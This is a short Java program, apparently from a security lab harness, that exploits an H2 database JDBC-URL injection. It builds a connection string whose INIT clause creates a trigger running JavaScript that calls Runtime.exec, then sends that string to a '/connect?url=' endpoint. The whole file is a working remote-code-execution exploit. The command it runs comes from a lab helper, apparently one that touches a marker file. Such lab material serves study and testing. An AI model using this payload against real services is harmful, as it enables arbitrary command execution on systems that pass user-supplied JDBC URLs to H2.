import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String url =
        "jdbc:h2:mem:b;INIT=CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\n"
            + "java.lang.Runtime.getRuntime().exec('"
            + Attacker.touch()
            + "')$$";
    Attacker.get("/connect?url=" + Attacker.encode(url));
    Attacker.done();
  }
}
